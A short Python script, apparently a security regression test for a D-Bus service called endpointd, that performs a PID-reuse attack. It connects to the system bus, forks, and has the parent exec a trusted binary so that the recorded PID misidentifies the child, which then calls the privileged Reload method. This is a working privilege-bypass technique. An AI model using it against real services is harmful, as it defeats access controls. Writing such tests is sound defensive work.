#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
# attack-04 (a): this process connects to the bus and forks; it then
# execve()s the genuine program, so the pid the bus daemon recorded for the
# connection now shows that program, while the child, which kept the
# connection, calls Reload on it. Prints "ok" or the error name.
#   attack-04-fork.py GENUINE [ARGS...]
import os
import sys
import time

import dbus

bus = dbus.SystemBus()
parent = os.getpid()
r, w = os.pipe()
if os.fork() == 0:
    os.close(w)
    genuine = os.path.realpath(sys.argv[1])
    for _ in range(100):
        try:
            if os.readlink("/proc/%d/exe" % parent) == genuine:
                break
        except OSError:
            pass
        time.sleep(0.05)
    try:
        bus.call_blocking("org.endpointd.Endpoint1", "/org/endpointd/Endpoint1", "org.endpointd.Policy1",
                          "Reload", "", [])
        answer = "ok"
    except dbus.exceptions.DBusException as e:
        answer = e.get_dbus_name()
    # One write(2) of the whole line: the genuine program writes to the same
    # pipe, and a line in two writes can be split by its "ready PID".
    os.write(1, (answer + "\n").encode())
    os._exit(0)
os.close(r)
# The child's call is answered while the genuine program waits on stdin
# (which the caller keeps open for a while).
os.execv(sys.argv[1], sys.argv[1:])
